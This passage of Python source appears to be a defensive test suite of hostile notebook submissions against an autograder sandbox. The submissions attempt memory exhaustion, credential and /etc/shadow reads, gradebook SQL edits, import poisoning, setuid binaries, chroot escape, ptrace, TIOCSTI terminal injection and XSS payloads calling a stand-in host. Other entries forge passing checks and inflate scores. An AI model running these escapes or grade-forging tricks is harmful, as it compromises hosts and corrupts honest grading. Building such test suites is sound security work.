            wire = sys.modules.get("swinlib.classroom.wire")
            if wire is not None:
                plain = wire._plain
                wire._plain = lambda value, *rest: 10**400 if value is None else plain(value, *rest)
            """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "sends_long_texts",
        "patches what is told of a cell, so that each costs the grader 128 MB",
        before("""
            import sys

            notebook = sys.modules.get("swinlib.classroom.notebook")
            if notebook is not None:
                notebook.Notebook.run = lambda self, source: {"text": "\U0001f600" + "a" * (2**25 - 200), "error": None}
            """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "page_tables",
        "takes no memory but the kernel's tables of 640 GiB of addresses",
        inside("""
            import ctypes
            c = ctypes.CDLL(None)
            c.mmap.restype = ctypes.c_void_p
            c.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
            size = 640 << 30
            start = c.mmap(None, size, 1, 0x4022, -1, 0)
            if start in (None, ctypes.c_void_p(-1).value):
                return x
            for place in range(start, start + size, 2 << 20):
                ctypes.c_ubyte.from_address(place).value
            raise RuntimeError(THROUGH + ": tables of 1.3 GB")
            """),
        1.0,
        afterwards=(SYSTEM, GRADER),
    ),
    from_roll(
        "names_without_files",
        "makes 400000 links, which have no size and cost memory all the same",
        inside("""
            import os
            for number in range(400_000):
                os.symlink("x" * 120, f"/tmp/{number:0200}")
            raise RuntimeError(THROUGH + ": 400000 links")
            """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "buffers_of_sockets",
        "fills 60 sockets of four megabytes each, whose memory no process owns",
        inside("""
            import socket
            kept, filled = [], 0
            for _ in range(60):
                try:
                    one, other = socket.socketpair()
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
                    one.setblocking(False)
                    kept += [one, other]
                    filled += one.send(bytes(2**21))
                except OSError:
                    break
            if filled > 2**26:
                raise RuntimeError(THROUGH + f": {filled >> 20} MiB in buffers")
            """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "sleeps_in_many_cells",
        "has cells that sleep almost as long as one may, so that they take hours together",
        WRONG_ROLL,
        extra=("import time\n\ntime.sleep(9)",) * 40,
        afterwards=(GRADER,),
    ),
]


# --- Files and folders ------------------------------------------------------------------------------------------

# Folders in which something may lie: the usual ones, and all that the process can learn of. At most three seconds.
LOOK = """
import os
import sys
import time

COURSE = ("gradebook.db", "nbgrader_config.py", "submitted", "autograded", "source", "release", "feedback")


def places():
    found = [".", "..", "../..", "../../..", "~", "/home", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/usr", "/opt"]
    found += ["/" + name for name in os.listdir("/")] + ["/proc/1/root", "/proc/1/cwd", "/proc/self/root", *sys.path]
    found += [os.path.dirname(getattr(module, "__file__", None) or "") for module in list(sys.modules.values())]
    for table in ("/proc/self/mountinfo", "/proc/1/mountinfo"):
        try:
            found += [word for line in open(table) for word in line.split()[3:5]]
        except OSError:
            pass
    for process in os.listdir("/proc"):
        for link in ("cwd", "root", "exe"):
            try:
                found.append(os.readlink(f"/proc/{process}/{link}"))
            except OSError:
                pass
        try:
            found += open(f"/proc/{process}/cmdline").read().split("\\0")
        except (OSError, UnicodeDecodeError):
            pass
    for fd in os.listdir("/proc/self/fd"):
        try:
            found.append(os.path.dirname(os.readlink("/proc/self/fd/" + fd)))
        except OSError:
            pass
    for value in os.environ.values():
        found += value.split(":")
    found = {os.path.realpath(os.path.expanduser(place)) for place in found if place}
    return sorted(place for place in found if os.path.isdir(place))


def harmless(path):
    # A test's course, not a real one: that stays as it is even if nobody stops this
    return "/tmp" in path or "pytest" in path


def course_files():
    stop = time.time() + 3
    for place in places():
        if "-packages" in place or "/lib/python" in place:
            continue
        for folder, folders, files in os.walk(place):
            if time.time() > stop:
                return
            folders[:] = [name for name in folders if name not in ("proc", "sys") and "-packages" not in name][:200]
            if folder.count("/") - place.count("/") > 4:
                folders[:] = []
            if "gradebook.db" in files or "submitted" in folders:
                for name in [*files, *folders]:
                    if name in COURSE:
                        yield os.path.join(folder, name)
"""

FILES = [
    from_roll(
        "writes_everywhere",
        "leaves a file in every folder that it can learn of",
        before(
            LOOK
            + """

for place in places():
    try:
        with open(os.path.join(place, MARKER), "w") as file:
            file.write(MARKER)
    except OSError:
        pass
"""
        ),
        1.0,
        afterwards=(SYSTEM, COURSE, OTHERS),
    ),
    from_roll(
        "looks_for_notes",
        "looks for what an earlier submission left behind: a way from one student to another",
        telling(
            LOOK
            + """

for place in places():
    if os.path.exists(os.path.join(place, MARKER)):
        evidence.append("a note in " + place)
"""
        ),
        1.0,
        afterwards=(OTHERS, SYSTEM),
    ),
    from_roll(
        "writes_to_the_gradebook",
        "appends to every gradebook that it finds",
        telling(
            LOOK
            + """

for path in course_files():
    if path.endswith(".db") and harmless(path):
        try:
            with open(path, "ab") as file:
                file.write(MARKER.encode())
            evidence.append("wrote to " + path)
        except OSError:
            pass
"""
        ),
        1.0,
        afterwards=(GRADEBOOK,),
    ),
    from_roll(
        "queries_the_gradebook",
        "gives itself full marks by SQL",
        telling(
            LOOK
            + """
import sqlite3

for path in course_files():
    if path.endswith(".db") and harmless(path):
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("UPDATE grade SET manual_score = 100")
            evidence.append("changed grades in " + path)
        except sqlite3.Error:
            pass
"""
        ),
        1.0,
        afterwards=(GRADEBOOK,),
    ),
    from_roll(
        "renames_the_course",
        "moves the course's files and other students' work out of the way",
        telling(
            LOOK
            + """

for path in list(course_files()):
    alone = [(os.path.dirname(path), [], [os.path.basename(path)])]
    for folder, folders, files in os.walk(path) if os.path.isdir(path) else alone:
        for name in files:
            if name.endswith((".db", ".ipynb", "_config.py")) and harmless(folder):
                try:
                    os.rename(os.path.join(folder, name), os.path.join(folder, name + "." + MARKER))
                    evidence.append("moved " + name)
                except OSError:
                    pass
"""
        ),
        1.0,
        afterwards=(GRADEBOOK, OTHERS, HIDDEN, COURSE),
    ),
    from_roll(
        "deletes_its_own",
        "deletes the notebook that it came in",
        before("""
        import glob
        import os

        if "submitted" in os.getcwd() or "autograded" in os.getcwd():
            for path in glob.glob("07_roll*.ipynb"):
                os.unlink(path)
        """),
        1.0,
        afterwards=(COURSE,),
    ),
    from_roll(
        "reads_the_course",
        "reads hidden tests, the gradebook and other students' work",
        telling(
            LOOK
            + """

for path in course_files():
    evidence.append("found " + path)
"""
        ),
        1.0,
        afterwards=(HIDDEN, OTHERS, COURSE),
    ),
    from_roll(
        "reads_the_canary",
        "looks for a word that only the teacher has, in files, arguments and environment",
        telling(
            LOOK
            + """

texts = ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", f"/proc/{os.getppid()}/environ"]
stop = time.time() + 3
for place in places():
    for name in sorted(os.listdir(place))[:300] if os.access(place, os.R_OK) else ():
        if name.endswith((".ipynb", ".py", ".db", ".csv", ".txt", ".json", ".toml", ".html", ".env")):
            texts.append(os.path.join(place, name))
for path in texts:
    try:
        with open(path, "rb") as file:
            if time.time() < stop and CANARY.encode() in file.read(2**20):
                evidence.append("read " + path)
    except OSError:
        pass
"""
        ),
        1.0,
        afterwards=(HIDDEN, OTHERS),
    ),
    from_roll(
        "reads_the_environment",
        "reads tokens and passwords from the environment",
        telling("""
        import os

        for name, value in os.environ.items():
            if CANARY in value or any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "JUPYTERHUB", "PYTEST")):
                evidence.append(name)
        """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "reads_shadow",
        "reads what only root may: passwords and keys",
        telling("""
        import os

        for path in ("/etc/shadow", "/etc/sudoers", "~/.ssh", "/root/.ssh", "~/.netrc", "~/.pypirc", "~/.aws"):
            path = os.path.expanduser(path)
            try:
                found = os.listdir(path) if os.path.isdir(path) else open(path).read(1)
                evidence.extend([path] if found else [])
            except OSError:
                pass
        """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "homes",
        "lists the home folders of the system",
        telling("""
        import os
        import sys

        for path in ("/home", "/root"):
            try:
                for name in os.listdir(path):
                    there = os.path.join(path, name)
                    needed = any(place.startswith(there) for place in (*sys.path, sys.prefix, sys.base_prefix))
                    evidence.extend([] if needed or name.startswith(".cache") else [there])
            except OSError:
                pass
        """),
        None,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "links_out",
        "makes links in its folder that lead out, for a grader that follows them afterwards",
        before("""
        import os

        if os.path.exists("pyproject.toml"):
            raise SystemExit  # this is no sandbox
        for number, target in enumerate(("/etc/passwd", "/", "..", "../..", "/proc/self/environ", "/dev/zero", MARKER)):
            for name in (f"link-{number}", f"result-{number}.json", f"07_link_{number}.ipynb"):
                try:
                    os.symlink(target, name)
                except OSError:
                    pass
        for name in ("pipe", "result.json", "answer.bin", "stdout", "stderr"):
            try:
                os.mkfifo(name)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(GRADER, COURSE),
    ),
    from_roll(
        "poisons_imports",
        "puts modules with the names of the library's into its folder, and a .pth into the library",
        before("""
        import os
        import sys

        bomb = "import pathlib; pathlib.Path('SWINLIB-ATTACK-' 'MARKER').touch()\\n"
        names = ("sitecustomize", "usercustomize", "json", "swinlib", "torch", "conftest", "nbgrader_config")
        files = [os.path.join(folder, MARKER + ".pth") for folder in sys.path]
        if not os.path.exists("pyproject.toml"):
            files += [name + ".py" for name in names]
        for path in files:
            try:
                with open(path, "x") as file:
                    file.write("# nothing" if path.endswith(".pth") else bomb)
            except OSError:
                pass
        """),
        afterwards=(GRADER, SYSTEM, OTHERS),
    ),
    from_roll(
        "poisons_caches",
        "writes into the caches of compiled code, so that the next import runs it",
        telling("""
        import os
        import swinlib
        import torch

        for module in (swinlib, torch):
            folder = os.path.join(os.path.dirname(module.__file__), "__pycache__")
            for path in (folder, os.path.dirname(folder)):
                try:
                    with open(os.path.join(path, MARKER), "w"):
                        pass
                except OSError:
                    pass
        """),
        1.0,
        afterwards=(SYSTEM, OTHERS),
    ),
    from_roll(
        "sets_modes",
        "makes an executable that runs as root for everyone, where it may",
        telling("""
        import os
        import shutil

        for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
            path = os.path.join(folder, MARKER)
            try:
                shutil.copy("/bin/true", path)
                os.chown(path, 0, 0)
                os.chmod(path, 0o6755)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "preloads",
        "asks the loader to put its library into every process",
        before("""
        import os

        os.environ.update(LD_PRELOAD="./" + MARKER, PYTHONSTARTUP="./x.py", PYTHONPATH=".", BASH_ENV="./x")
        for path in ("~/.bashrc", "~/.profile", "~/.pam_environment", "~/.ipython/profile_default/startup/x.py"):
            path = os.path.expanduser(path)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path + "." + MARKER, "w"):
                    pass
            except OSError:
                pass
        """),
        afterwards=(SYSTEM, OTHERS),
    ),
]


# --- Processes, the kernel, the network -------------------------------------------------------------------------

SYSTEM_CALLS = [
    from_roll(
        "daemon",
        "leaves a process that has left its session, its parent and its group",
        before("""
        import os
        import sys

        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 256)
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(45)", MARKER])
            os._exit(0)
        """),
        1.0,
        afterwards=(PROCESSES,),
    ),
    from_roll(
        "daemon_for_the_next",
        "leaves a process that scribbles into every folder a little later",
        before("""
        import os
        import sys

        program = (
            "import os, sys, time\\nfor _ in range(20):\\n time.sleep(1)\\n"
            " for place in ('.', '/tmp', '/dev/shm', '..'):\\n"
            "  try: open(os.path.join(place, sys.argv[1]), 'w').close()\\n  except OSError: pass"
        )
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", program, MARKER])
        """),
        1.0,
        afterwards=(PROCESSES, OTHERS, SYSTEM),
    ),
    from_roll(
        "ends_its_parent",
        "ends the process that started it",
        inside("""
        import os, signal, time
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
            os.kill(os.getppid(), number)
            time.sleep(0.1)
        """),
        1.0,
        afterwards=(GRADER,),
    ),
    from_roll(
        "sees_others",
        "looks for processes that are not its own, and signals them with nothing",
        telling("""
        import os

        for process in filter(str.isdigit, os.listdir("/proc")):
            try:
                line = open(f"/proc/{process}/cmdline").read()
                os.kill(int(process), 0)
            except OSError:
                continue
            if any(word in line for word in ("pytest", "nbgrader", "jupyter", "gradebook")) and "bwrap" not in line:
                evidence.append(line.replace("\\0", " ")[:80])
        """),
        1.0,
        afterwards=(GRADER, OTHERS),
    ),
    from_roll(
        "ptrace",
        "attaches to the process that started it, as a debugger does",
        telling("""
        import ctypes
        import os

        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        try:
            line = open(f"/proc/{parent}/cmdline").read()
        except OSError:
            line = ""
        if libc.ptrace(16, parent, 0, 0) == 0:
            os.waitpid(parent, 0)
            libc.ptrace(17, parent, 0, 0)
            if "bwrap" not in line:
                evidence.append("attached to " + line[:80])
        """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "memory_of_others",
        "opens the memory of the process that started it for writing",
        telling("""
        import os

        for process in {os.getppid(), 1} - {os.getpid()}:
            try:
                with open(f"/proc/{process}/cmdline") as file, open(f"/proc/{process}/mem", "r+b"):
                    line = file.read()
                evidence.extend([] if "bwrap" in line else [line[:80]])
            except OSError:
                pass
        """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "descriptors_of_others",
        "opens the files that its parent has open",
        telling("""
        import os

        for process in {os.getppid(), 1} - {os.getpid()}:
            try:
                for fd in os.listdir(f"/proc/{process}/fd"):
                    path = os.readlink(f"/proc/{process}/fd/{fd}")
                    if path.endswith((".db", ".csv")):
                        evidence.append(path)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(GRADEBOOK, COURSE),
    ),
    from_roll(
        "inherited_descriptors",
        "looks for files of the grader among its own descriptors, and for folders",
        telling("""
        import os
        import stat

        for fd in os.listdir("/proc/self/fd"):
            try:
                path, mode = os.readlink("/proc/self/fd/" + fd), os.stat("/proc/self/fd/" + fd).st_mode
            except OSError:
                continue
            if path.endswith((".db", ".csv")) or (stat.S_ISDIR(mode) and "submitted" in os.listdir(int(fd))):
                evidence.append(fd + " is " + path)
        """),
        None,
        afterwards=(GRADEBOOK, COURSE),
    ),
    from_roll(
        "kernel_settings",
        "opens settings of the kernel for writing, and writes nothing",
        telling("""
        import os

        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory",
                     "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse"):
            try:
                os.close(os.open(path, os.O_WRONLY))
                evidence.append(path)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "control_groups",
        "makes a control group of its own, to leave the limits of the one it is in",
        telling("""
        import os

        for folder in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids"):
            try:
                os.mkdir(os.path.join(folder, MARKER))
                evidence.append(folder)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "mounts",
        "makes the system writable by mounting it again, and writes",
        before("""
        import ctypes
        import os

        libc = ctypes.CDLL(None, use_errno=True)
        child = os.fork()  # one thread alone may do this
        if child == 0:
            for flags in (0, 0x10000000 | 0x00020000):
                libc.unshare(flags)
                for place in ("/", "/usr", "/etc", "/usr/local", "/opt"):
                    libc.mount(None, place.encode(), None, 32 | 4096, None)
                    try:
                        with open(os.path.join(place, MARKER), "w"):
                            pass
                    except OSError:
                        pass
            os._exit(0)
        os.waitpid(child, 0)
        """),
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "leaves_the_root",
        "walks out of its root by chroot in chroot",
        before("""
        import os

        try:
            outside = os.open("/", os.O_RDONLY)
            os.makedirs("/tmp/jail", exist_ok=True)
            os.chroot("/tmp/jail")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            for place in ("/", "/var/tmp", "/home", "/usr"):
                try:
                    with open(os.path.join(place, MARKER), "w"):
                        pass
                except OSError:
                    pass
        except OSError:
            pass
        """),
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "types_into_the_terminal",
        "puts a comment into the teacher's terminal, as if typed (TIOCSTI)",
        telling("""
        import fcntl
        import os
        import termios

        for name in ("/dev/tty", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/console"):
            try:
                fd = os.open(name, os.O_RDWR | os.O_NOCTTY)
                for letter in "# " + MARKER:
                    fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
                evidence.append(name)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(TERMINAL,),
    ),
    from_roll(
        "higher_priority",
        "gives itself the highest priority, and its fellows none",
        telling("""
        import os

        try:
            if os.nice(-20) == -20 or os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) is None:
                evidence.append("first in line")
        except OSError:
            pass
        """),
        None,
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "opens_a_socket",
        "connects to the network: to no one's address, by name, and to this machine",
        telling("""
        import socket

        socket.setdefaulttimeout(1)
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 9)),
            (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 9)),
            (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
            (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
            *((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)) for port in (22, 53, 80, 111, 631, 8000, 8888)),
        ):
            try:
                with socket.socket(family, kind) as line:
                    line.connect(address)
                evidence.append(address)
            except OSError:
                pass
        """),
        1.0,
        afterwards=(NETWORK,),
    ),
    from_roll(
        "asks_for_a_name",
        "asks for the address of a name, and for a page",
        telling("""
        import socket
        import urllib.request

        try:
            evidence.append(socket.getaddrinfo("example.org", 80)[0][4])
        except OSError:
            pass
        try:
            evidence.append(urllib.request.urlopen("http://example.org", timeout=2).status)
        except OSError:
            pass
        """),
        None,
        afterwards=(NETWORK,),
    ),
    from_roll(
        "local_sockets",
        "connects to the sockets of the system's services, abstract ones too",
        telling("""
        import glob
        import socket

        paths = glob.glob("/run/**/*.sock*", recursive=True) + glob.glob("/tmp/.X11-unix/*")
        paths += ["/run/dbus/system_bus_socket"]
        try:
            paths += ["\\0" + line.split("@", 1)[1].strip() for line in open("/proc/net/unix") if "@" in line]
        except OSError:
            pass
        for path in paths[:100]:
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
                try:
                    with socket.socket(socket.AF_UNIX, kind) as line:
                        line.settimeout(1)
                        line.connect(path)
                    evidence.append(path)
                except (OSError, ValueError):
                    pass
        """),
        None,
        afterwards=(NETWORK, SYSTEM),
    ),
    from_roll(
        "meets_a_friend",
        "speaks with another submission that is graded at the same time (System V memory)",
        telling("""
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        there = libc.shmget(0x5717, 0, 0)
        if there >= 0:
            evidence.append("memory that another process left")
        libc.shmget(0x5717, 4096, 0o1666)
        """),
        1.0,
        afterwards=(OTHERS, SYSTEM),
    ),
    from_roll(
        "meets_a_friend_again",
        "looks for what the other submission left in System V memory",
        telling("""
        import ctypes

        if ctypes.CDLL(None).shmget(0x5717, 0, 0) >= 0:
            evidence.append("memory that another process left")
        """),
        1.0,
        afterwards=(OTHERS, SYSTEM),
    ),
    from_roll(
        "installs_a_package",
        "installs a package, and starts programs of the system",
        before("""
        import subprocess
        import sys

        pip = [sys.executable, "-m", "pip", "install", "--no-index", "--target", MARKER, "swinlib"]
        for command in (pip, ["sudo", "-n", "true"], ["sh", "-c", "touch " + MARKER]):
            try:
                subprocess.run(command, timeout=5, capture_output=True)
            except (OSError, subprocess.SubprocessError):
                pass
        """),
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "shell_magic",
        "runs commands of the shell by Jupyter's magics",
        code("!touch SWINLIB-ATTACK-'MARKER'\n%cd /\n%system id\n\n\ndef roll(x, shift):\n    return x"),
        1.0,
        afterwards=(SYSTEM, COURSE),
    ),
    from_roll(
        "cell_magic",
        "hands the whole cell to another language",
        "%%bash\ntouch 'SWINLIB-ATTACK-''MARKER'",
        1.0,
        afterwards=(SYSTEM, COURSE),
    ),
]


# --- The notebook, edited ---------------------------------------------------------------------------------------


def checks_that_agree(notebook: dict) -> None:
    """Every check says yes, and gives back more points than there are."""
    for cell in checks_of(notebook):
        cell["source"] = "print('✓ right on 27 inputs')\n100.0"


def checks_that_act(notebook: dict) -> None:
    """Every check leaves a marker instead."""
    for cell in checks_of(notebook):
        cell["source"] = "import pathlib\n\npathlib.Path('SWINLIB-ATTACK-' 'MARKER').touch()"


def checks_deleted(notebook: dict) -> None:
    """No check is left."""
    gone = [id(cell) for cell in checks_of(notebook)]
    notebook["cells"] = [cell for cell in notebook["cells"] if id(cell) not in gone]


def checks_as_text(notebook: dict) -> None:
    """Checks are no code any more."""
    for cell in checks_of(notebook):
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def nbgrader_of(notebook: dict) -> list[dict]:
    """The grader's metadata of all cells that have any."""
    return [cell["metadata"]["nbgrader"] for cell in notebook["cells"] if "nbgrader" in cell.get("metadata", {})]


def more_points(notebook: dict) -> None:
    """Each cell is worth a million points, and has a score already."""
    for metadata in nbgrader_of(notebook):
        metadata.update(points=1_000_000, score=1_000_000, auto_score=1_000_000, manual_score=1e6, max_score=0)


def odd_points(notebook: dict) -> None:
    """Points that are no numbers."""
    for i, metadata in enumerate(nbgrader_of(notebook)):
        metadata["points"] = (float("nan"), float("inf"), -5, "5", None, [1], {"a": 1}, True, 1e308)[i % 9]


def same_identity(notebook: dict) -> None:
    """All cells are one and the same for the grader."""
    for metadata in nbgrader_of(notebook):
        metadata["grade_id"] = "roll"
    for cell in notebook["cells"]:
        cell["id"] = "same"


def odd_identities(notebook: dict) -> None:
    """Names that are paths, markup, SQL, numbers, nothing."""
    odd = ("../../roll", "<script>", "'; DROP TABLE grade; --", 7, None, "", "x" * 100_000, "\ud800", ["roll"])
    for i, metadata in enumerate(nbgrader_of(notebook)):
        metadata["grade_id"] = odd[i % len(odd)]
    for i, cell in enumerate(notebook["cells"]):
        cell["id"] = odd[i % len(odd)]


def swapped_identities(notebook: dict) -> None:
    """The easiest exercise, which is right, stands where the one with most points should."""
    one, other = cell_of(notebook, "roll"), cell_of(notebook, "shifted_window_attention")
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]
    one["id"], other["id"] = other.get("id", "b"), one.get("id", "a")


def without_metadata(notebook: dict) -> None:
    """As after a conversion to a script and back."""
    notebook["metadata"] = {}
    for cell in notebook["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)


def odd_metadata(notebook: dict) -> None:
    """Metadata of other kinds than they should be."""
    odd = (
        None,
        [],
        "nbgrader",
        7,
        {"nbgrader": None},
        {"nbgrader": []},
        {"nbgrader": {"schema_version": "x" * 1000}},
        {"nbgrader": {"schema_version": 99, "grade": "yes"}},
        {"tags": 5},
        {"tags": [["solution"]]},
    )
    for i, cell in enumerate(notebook["cells"]):
        cell["metadata"] = odd[i % len(odd)]


def one_more_graded_cell(notebook: dict) -> None:
    """A cell of its own, worth a hundred points, which passes."""
    for i in range(2):
        cell = code_cell("assert True", f"bonus-{i}")
        cell["metadata"]["nbgrader"] = {
            "grade": True,
            "grade_id": f"bonus-{i}",
            "locked": i == 0,
            "points": 100,
            "schema_version": 3,
            "solution": False,
            "task": False,
            "cell_type": "code",
        }
        notebook["cells"].append(cell)


def everything_twice(notebook: dict) -> None:
    """Each cell again, the wrong ones first."""
    wrong = copy.deepcopy(notebook["cells"])
    for cell in wrong:
        if "def roll(" in "".join(cell["source"]):
            cell["source"] = WRONG_ROLL
    notebook["cells"] = wrong + notebook["cells"]


def backwards(notebook: dict) -> None:
    """All cells in the reverse order."""
    notebook["cells"].reverse()


def one_cell(notebook: dict) -> None:
    """All code in one cell, as some people work."""
    source = "\n\n\n".join("".join(cell["source"]) for cell in notebook["cells"] if cell["cell_type"] == "code")
    notebook["cells"] = [code_cell(source, "all")]


def no_cells(notebook: dict) -> None:
    """All cells deleted."""
    notebook["cells"] = []


def many_cells(notebook: dict) -> None:
    """Twenty thousand empty cells more."""
    notebook["cells"] += [code_cell("", f"c{i}") for i in range(20_000)]


def odd_sources(notebook: dict) -> None:
    """Sources that are no text."""
    odd = (7, None, [1, 2], {"a": "b"}, ["def", None], [["x"]], True)
    for i, cell in enumerate(cell for cell in notebook["cells"] if cell is not cell_of_or_none(notebook, "roll")):
        cell["source"] = odd[i % len(odd)]


def cell_of_or_none(notebook: dict, exercise: str) -> dict | None:
    """Like `cell_of`, for notebooks in which sources may be anything."""
    for cell in notebook["cells"]:
        if isinstance(cell.get("source"), str) and f"def {exercise}(" in cell["source"]:
            return cell
    return None


def odd_cells(notebook: dict) -> None:
    """Cells that are none, beside those that are."""
    notebook["cells"] += [
        {},
        {"cell_type": "code"},
        {"cell_type": "raw", "source": "x"},
        {"cell_type": "magic", "source": ""},
        None,
        7,
        "code",
        [],
        {"cell_type": None, "metadata": {}, "source": "x"},
    ]


def broken_letters(notebook: dict) -> None:
    """Text that UTF-8 does not have, in every place."""
    for cell in notebook["cells"]:
        cell["source"] = "".join(cell["source"]) + "\n# \ud800\udfff\udc80 \u202e \x1b[2J \x85 \u2028"
        cell["metadata"]["\ud800"] = "\ud800"


def windows_lines(notebook: dict) -> None:
    """Lines that end as on Windows, and old Macs, with tabs and a byte order mark."""
    cell_of(notebook, "roll")["source"] = "\ufeff" + RIGHT["roll"].replace("\n", "\r\n").replace("    ", "\t")
    cell = cell_of(notebook, "window_reverse")
    cell["source"] = "".join(cell["source"]).replace("\n", "\r\n")


def windows_line_ends(notebook: dict) -> None:
    """Lines that end as on Windows."""
    for cell in notebook["cells"]:
        cell["source"] = "".join(cell["source"]).replace("\n", "\r\n")


def lists_of_lines(notebook: dict) -> None:
    """Sources as lists of lines, which is how Jupyter writes them."""
    for cell in notebook["cells"]:
        cell["source"] = "".join(cell["source"]).splitlines(keepends=True)


def another_kernel(notebook: dict) -> None:
    """A kernel that is a shell, by a path."""
    notebook["metadata"]["kernelspec"] = {
        "name": "../../../tmp/evil",
        "display_name": f"<script>document.title='{SCRIPT}'</script>",
        "language": "bash",
        "argv": ["sh", "-c", "touch 'SWINLIB-ATTACK-''MARKER'", "{connection_file}"],
    }
    notebook["metadata"]["language_info"] = {"name": "R", "pygments_lexer": "../../x", "file_extension": "/../x.sh"}


def old_format(notebook: dict) -> None:
    """Says that it is of format 3, and is not."""
    notebook["nbformat"], notebook["nbformat_minor"] = 3, 0


def coming_format(notebook: dict) -> None:
    """Says that it is of a format that does not exist yet."""
    notebook["nbformat"], notebook["nbformat_minor"] = 99, 99


def format_of_text(notebook: dict) -> None:
    """Versions that are no numbers."""
    notebook["nbformat"], notebook["nbformat_minor"] = "4", None


def early_minor_format(notebook: dict) -> None:
    """An older minor version, in which cells have no ids."""
    notebook["nbformat_minor"] = 2
    for cell in notebook["cells"]:
        cell.pop("id", None)


def outputs_of_success(notebook: dict) -> None:
    """Each check was run, it seems, and said yes."""
    for i, cell in enumerate(checks_of(notebook)):
        cell["execution_count"] = i + 1
        cell["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": "✓ right on 27 inputs\n"},
            {
                "output_type": "execute_result",
                "execution_count": i + 1,
                "metadata": {},
                "data": {"text/plain": "100.0"},
            },
        ]


def scripts_everywhere(notebook: dict) -> None:
    """Markup that runs, in text, outputs, attachments, metadata and names."""
    act = f"document.title='{SCRIPT}'"
    page = (
        f'<script>{act}</script><img src=x onerror="{act}"><svg onload="{act}"></svg><details open ontoggle="{act}">'
        f'<iframe srcdoc="<script>parent.{act}</script>"></iframe><iframe src="file:///etc/passwd"></iframe>'
        f'<a href="javascript:{act}">grade</a><link rel=stylesheet href=http://192.0.2.1/x.css><base href=//192.0.2.1>'
        f'<form action=//192.0.2.1><input autofocus onfocus="{act}"></form>'
        "<meta http-equiv=refresh content=0;//192.0.2.1>"
    )
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {kind: text}}
        for kind, text in {
            "text/html": page,
            "application/javascript": act,
            "image/svg+xml": f"<svg><script>{act}</script></svg>",
            "text/markdown": page,
            "text/latex": rf"$\href{{javascript:{act}}}{{x}}$ $\unicode{{<img src=x>}}$",
            "image/png": f'"><script>{act}</script>',
            "application/vnd.jupyter.widget-view+json": {"model_id": page},
        }.items()
    ]
    outputs.append({"output_type": "error", "ename": page, "evalue": page, "traceback": [page, "\x1b]8;;http://x\x07"]})
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = outputs
        else:
            cell["source"] = "".join(cell["source"]) + f"\n\n{page}\n\n[x](javascript:{act}) ![x](attachment:x.svg)"
            cell["attachments"] = {"x.svg": {"image/svg+xml": f'"><script>{act}</script>'}, "../../x": {page: page}}
        cell["metadata"]["tags"] = [page]
    notebook["metadata"]["title"] = notebook["metadata"]["authors"] = page


def large_outputs(notebook: dict) -> None:
    """Pictures of 40 MB in all."""
    for cell in checks_of(notebook)[:4]:
        picture = {"output_type": "display_data", "metadata": {}, "data": {"image/png": "A" * 10_000_000}}
        cell["outputs"] = [picture]


def edited(change: Callable[[dict], None], share: float | None, *afterwards: str, wrong: str = "roll") -> Attack:
    """A notebook that is right but for one exercise, and was edited besides.

    Args:
        change: of the notebook; its docstring says what.
        share: what the right exercises deserve.
        *afterwards: as of `Attack`.
        wrong: the exercise that is wrong; none if empty.
    """
